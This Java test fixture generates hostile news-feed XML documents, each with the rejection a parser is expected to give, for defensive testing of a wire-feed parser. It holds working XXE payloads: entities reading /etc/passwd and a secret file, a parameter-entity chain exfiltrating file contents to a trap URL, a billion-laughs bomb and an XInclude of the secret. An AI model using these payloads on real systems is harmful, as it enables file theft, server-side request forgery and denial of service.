package io.wirefeed.testfeeds;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * NITF and NewsML-G2 documents that try to reach out of the parser: external entities naming a
 * local file or a URL, entity-expansion bombs, parameter entities, external DTDs, XInclude and deep
 * nesting. Each carries what the processor must do with it. Seeded.
 *
 * @param secretFile a file whose content must never appear in any output
 * @param trapUrl a URL on a server that must never be connected to
 */
public record HostileXml(Path secretFile, String trapUrl) {

  /** Part of the reject reason, or {@code null} when the document is a story to publish. */
  public enum Kind {
    FILE_ENTITY_ETC_PASSWD(HostileXml.INTERNAL_SUBSET),
    FILE_ENTITY_SECRET(HostileXml.INTERNAL_SUBSET),
    NETWORK_ENTITY(HostileXml.INTERNAL_SUBSET),
    BILLION_LAUGHS(HostileXml.INTERNAL_SUBSET),
    /** Past the framer's 64 KiB look into the prolog, so it is framed without knowing its root. */
    BILLION_LAUGHS_BEHIND_A_LONG_PROLOG(HostileXml.INTERNAL_SUBSET),
    PARAMETER_ENTITY(HostileXml.INTERNAL_SUBSET),
    SUBSET_BEHIND_A_DECOY_COMMENT(HostileXml.INTERNAL_SUBSET),
    UNDECLARED_ENTITY("The entity \"secret\" was referenced, but not declared"),
    DEEP_NESTING("XML nested deeper than 64 elements"),
    /** A DOCTYPE that only names a DTD is ignored, as NITF files often carry one: not fetched. */
    EXTERNAL_DTD_OVER_HTTP(null),
    EXTERNAL_DTD_FROM_A_FILE(null),
    /** StAX does no XInclude: the element is an unknown one and is skipped. */
    XINCLUDE_OF_THE_SECRET(null);

    public final String rejectReason;

    Kind(String rejectReason) {
      this.rejectReason = rejectReason;
    }
  }

  public record Message(Kind kind, byte[] bytes) {}

  public static final String INTERNAL_SUBSET = "DOCTYPE with an internal subset refused";

  /** {@code count} hostile documents, each kind in turn, with distinct stories in them. */
  public List<Message> messages(int count, long seed) {
    Random random = new Random(seed);
    Kind[] kinds = Kind.values();
    List<Message> messages = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      Kind kind = kinds[i % kinds.length];
      String id = "HX-" + seed + "-" + i + "-" + random.nextInt(1_000_000);
      messages.add(new Message(kind, document(kind, id).getBytes(StandardCharsets.UTF_8)));
    }
    return messages;
  }

  private String document(Kind kind, String id) {
    String secret = secretFile.toUri().toString();
    return switch (kind) {
      case FILE_ENTITY_ETC_PASSWD ->
          nitf("<!DOCTYPE nitf [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", id, "Read this: &x;");
      case FILE_ENTITY_SECRET ->
          newsMlG2(
              "<!DOCTYPE newsItem [<!ENTITY secret SYSTEM \"" + secret + "\">]>",
              id,
              "Read this: &secret;");
      case NETWORK_ENTITY ->
          nitf(
              "<!DOCTYPE nitf [<!ENTITY net SYSTEM \"" + trapUrl + "/entity\">]>",
              id,
              "Fetched: &net;");
      case BILLION_LAUGHS -> nitf(billionLaughs(), id, "&lol9;");
      case BILLION_LAUGHS_BEHIND_A_LONG_PROLOG ->
          nitf("<!--" + " ".repeat(70_000) + "-->\n" + billionLaughs(), id, "&lol9;");
      case PARAMETER_ENTITY ->
          nitf(
              "<!DOCTYPE nitf [<!ENTITY % remote SYSTEM \""
                  + trapUrl
                  + "/parameter.dtd\"> %remote;"
                  + "<!ENTITY % file SYSTEM \""
                  + secret
                  + "\"><!ENTITY % wrap \"<!ENTITY leak SYSTEM '"
                  + trapUrl
                  + "/?%file;'>\"> %wrap;]>",
              id,
              "&leak;");
      case SUBSET_BEHIND_A_DECOY_COMMENT ->
          // A DOCTYPE without a subset inside the comment, to fool a check that looks at the first.
          nitf(
              "<!-- <!DOCTYPE nitf> -->\n<!DOCTYPE nitf [<!ENTITY s SYSTEM \"" + secret + "\">]>",
              id,
              "Read this: &s;");
      case UNDECLARED_ENTITY -> nitf("", id, "Read this: &secret;");
      case DEEP_NESTING -> nitf("", id, "<span>".repeat(1_000) + "deep" + "</span>".repeat(1_000));
      case EXTERNAL_DTD_OVER_HTTP ->
          nitf(
              "<!DOCTYPE nitf PUBLIC \"-//IPTC//DTD NITF 3.2//EN\" \"" + trapUrl + "/nitf.dtd\">",
              id,
              "Harbour reopens after storm repairs.");
      case EXTERNAL_DTD_FROM_A_FILE ->
          newsMlG2(
              "<!DOCTYPE newsItem SYSTEM \"" + secret + "\">",
              id,
              "Council approves new library budget.");
      case XINCLUDE_OF_THE_SECRET ->
          nitf(
              "",
              id,
              "Bridge closed for inspection.</p><p><xi:include"
                  + " xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                  + secret
                  + "\"/>");
    };
  }

  private static String billionLaughs() {
    StringBuilder subset = new StringBuilder("<!DOCTYPE nitf [<!ENTITY lol0 \"lol\">");
    for (int level = 1; level <= 9; level++) {
      subset.append("<!ENTITY lol").append(level).append(" \"");
      subset.append(("&lol" + (level - 1) + ";").repeat(10));
      subset.append("\">");
    }
    return subset.append("]>").toString();
  }

  private static String nitf(String doctype, String id, String paragraph) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        + doctype
        + "\n<nitf><head><docdata><doc-id id-string=\""
        + id
        + "\"/></docdata></head><body><body.head><hedline><hl1>Item "
        + id
        + "</hl1></hedline></body.head><body.content><p>"
        + paragraph
        + "</p></body.content></body></nitf>\n";
  }

  private static String newsMlG2(String doctype, String id, String paragraph) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        + doctype
        + "\n<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"tag:example.com,2025:"
        + id
        + "\" version=\"1\"><itemMeta><versionCreated>2025-04-02T10:00:00Z</versionCreated>"
        + "<pubStatus qcode=\"stat:usable\"/></itemMeta><contentMeta><headline>Item "
        + id
        + "</headline></contentMeta><contentSet><inlineXML><html"
        + " xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>"
        + paragraph
        + "</p></body></html></inlineXML></contentSet></newsItem>\n";
  }
}
